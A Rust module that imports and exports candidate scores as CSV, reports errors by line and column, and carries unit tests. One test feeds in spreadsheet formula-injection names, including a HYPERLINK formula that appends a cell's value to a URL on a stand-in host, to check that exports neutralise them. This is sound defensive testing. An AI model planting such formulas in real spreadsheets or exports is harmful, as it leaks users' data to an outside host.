//! Candidates as CSV: a header row (`name`, then criterion ids or labels), one candidate a line.
//! Errors name the line and the column, counting from 1 as a spreadsheet does.

use crate::support::number::Shortest;
use crate::support::sorted_map::SortedMap;

use crate::case::{Candidate, Criterion};
use crate::support::escape::{csv_field, csv_text};

#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("line {line}, column {column}: {message}")]
pub struct CsvError {
    pub line: usize,
    pub column: usize,
    pub message: String,
}

pub const MAX_ROWS: usize = crate::case::MAX_CANDIDATES;

/// Splits CSV text into records (RFC 4180: quoted fields may hold commas, quotes and newlines).
fn records(text: &str) -> Result<Vec<(usize, Vec<String>)>, CsvError> {
    let mut out = Vec::new();
    let (mut field, mut record) = (String::new(), Vec::new());
    let (mut line, mut record_line) = (1usize, 1usize);
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => {
                if c == '\n' {
                    line += 1;
                }
                field.push(c);
            }
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                out.push((record_line, std::mem::take(&mut record)));
                line += 1;
                record_line = line;
            }
            (false, c) => field.push(c),
        }
    }
    if quoted {
        return Err(CsvError {
            line: record_line,
            column: record.len() + 1,
            message: "a quoted field is not closed".into(),
        });
    }
    if !field.is_empty() || !record.is_empty() {
        record.push(field);
        out.push((record_line, record));
    }
    out.retain(|(_, r)| !(r.len() == 1 && r[0].trim().is_empty()));
    Ok(out)
}

/// Reads candidates for `criteria`: every criterion needs a column, every value a number.
pub fn parse(text: &str, criteria: &[Criterion]) -> Result<Vec<Candidate>, CsvError> {
    if let Some(message) = crate::formats::import_size_problem(text.len() as u64) {
        return Err(CsvError {
            line: 1,
            column: 1,
            message,
        });
    }
    let rows = records(text)?;
    let Some((_, header)) = rows.first() else {
        return Err(CsvError {
            line: 1,
            column: 1,
            message: "the file is empty: the first line names the columns".into(),
        });
    };
    let err = |line, column, message: String| CsvError {
        line,
        column,
        message,
    };
    if !header
        .first()
        .is_some_and(|h| h.trim().eq_ignore_ascii_case("name"))
    {
        return Err(err(1, 1, "the first column must be \"name\"".into()));
    }
    let mut columns: Vec<(usize, &Criterion)> = Vec::new();
    for (k, h) in header.iter().enumerate().skip(1) {
        let h = csv_text(h.trim()).trim();
        let criterion = criteria
            .iter()
            .find(|c| c.id.eq_ignore_ascii_case(h) || c.label().eq_ignore_ascii_case(h));
        match criterion {
            Some(c) if columns.iter().any(|(_, o)| o.id == c.id) => {
                return Err(err(
                    1,
                    k + 1,
                    format!("{h:?} is a second column for {}", c.label()),
                ));
            }
            Some(c) => columns.push((k, c)),
            None => {
                return Err(err(
                    1,
                    k + 1,
                    format!("{h:?} is not a criterion of this case"),
                ));
            }
        }
    }
    if let Some(missing) = criteria
        .iter()
        .find(|c| !columns.iter().any(|(_, o)| o.id == c.id))
    {
        return Err(err(
            1,
            header.len() + 1,
            format!("no column for {} ({})", missing.label(), missing.id),
        ));
    }
    if rows.len() == 1 {
        // Taking "no candidates" from a file would delete every candidate of the case.
        return Err(err(
            1,
            1,
            "no candidates: the file has its header line only".into(),
        ));
    }
    if rows.len() - 1 > MAX_ROWS {
        return Err(err(
            MAX_ROWS + 2,
            1,
            format!("at most {MAX_ROWS} candidates"),
        ));
    }
    rows.iter()
        .skip(1)
        .map(|(line, record)| {
            let name = record
                .first()
                .map(|n| csv_text(n.trim()).trim().to_string())
                .unwrap_or_default();
            if name.is_empty() {
                return Err(err(*line, 1, "the name is empty".into()));
            }
            if record.len() > header.len() {
                return Err(err(
                    *line,
                    header.len() + 1,
                    "more fields than the header has columns".into(),
                ));
            }
            let mut values = SortedMap::new();
            for (k, c) in &columns {
                let raw = record.get(*k).map(|v| v.trim()).unwrap_or("");
                let v = crate::support::number::parse_number(raw).ok_or_else(|| {
                    err(
                        *line,
                        k + 1,
                        format!("{raw:?} is not a number ({} of {name})", c.label()),
                    )
                })?;
                values.insert(c.id.clone(), v);
            }
            Ok(Candidate { name, values })
        })
        .collect()
}

/// Candidates as CSV that `parse` reads back.
pub fn to_csv(candidates: &[Candidate], criteria: &[Criterion]) -> String {
    let mut out = String::from("name");
    for c in criteria {
        out.push(',');
        out.push_str(&csv_field(&c.id));
    }
    out.push('\n');
    for cand in candidates {
        out.push_str(&csv_field(&cand.name));
        for c in criteria {
            out.push(',');
            if let Some(v) = cand.values.get(&c.id) {
                out.push_str(&Shortest(*v).to_string());
            }
        }
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::case::default_criteria;

    #[test]
    fn reads_ids_or_labels_and_quoted_names() {
        let csv = "name,Seniority,experience,references,track_record,availability,cost,speed,Interest\n\
                   \"Ribeiro, Ana\",8,5,5,92,30,75,35,4\r\nTom \"T\" Nowak,5,3,4,85,35,60,40,5\n\n";
        let got = parse(csv, &default_criteria()).unwrap();
        assert_eq!(got.len(), 2);
        assert_eq!(got[0].name, "Ribeiro, Ana");
        assert_eq!(got[0].values.get("seniority"), Some(&8.0));
        assert_eq!(got[1].name, "Tom \"T\" Nowak");
        assert_eq!(
            parse(&to_csv(&got, &default_criteria()), &default_criteria()).unwrap(),
            got
        );
    }

    #[test]
    fn errors_name_line_and_column() {
        let k = default_criteria();
        let head =
            "name,seniority,experience,references,track_record,availability,cost,speed,interest\n";
        let e = parse(&format!("{head}Ana,8,5,5,92,thirty,75,35,4\n"), &k).unwrap_err();
        assert_eq!((e.line, e.column), (2, 6));
        assert!(
            e.message
                .contains("\"thirty\" is not a number (Availability of Ana)")
        );
        let e = parse("name,seniority,age\n", &k).unwrap_err();
        assert_eq!((e.line, e.column), (1, 3));
        let e = parse("name,seniority\n", &k).unwrap_err();
        assert!(
            e.message.starts_with("no column for Past experience"),
            "{e}"
        );
        let e = parse(&format!("{head}\"Ana,8\n"), &k).unwrap_err();
        assert!(e.message.contains("not closed"));
        assert_eq!(parse("", &k).unwrap_err().line, 1);
        // A header alone would have replaced every candidate with none.
        let e = parse(head, &k).unwrap_err();
        assert_eq!((e.line, e.column), (1, 1));
        assert!(e.message.starts_with("no candidates"), "{e}");
    }

    #[test]
    fn formula_names_are_written_inert_and_read_back() {
        let k = default_criteria();
        let mut cand = parse(
            "name,seniority,experience,references,track_record,availability,cost,speed,interest\nAna,8,5,5,92,30,75,35,4\n",
            &k,
        )
        .unwrap()
        .remove(0);
        for name in [
            "=HYPERLINK(\"http://x/?\"&B2,\"Click\")",
            "+1",
            "-1",
            "@A1",
            "'=x",
            "'Ana",
        ] {
            cand.name = name.into();
            let csv = to_csv(std::slice::from_ref(&cand), &k);
            let line = csv.lines().nth(1).unwrap();
            assert!(line.starts_with('\'') || line.starts_with("\"'"), "{line}");
            assert_eq!(parse(&csv, &k).unwrap()[0].name, name);
        }
    }
}
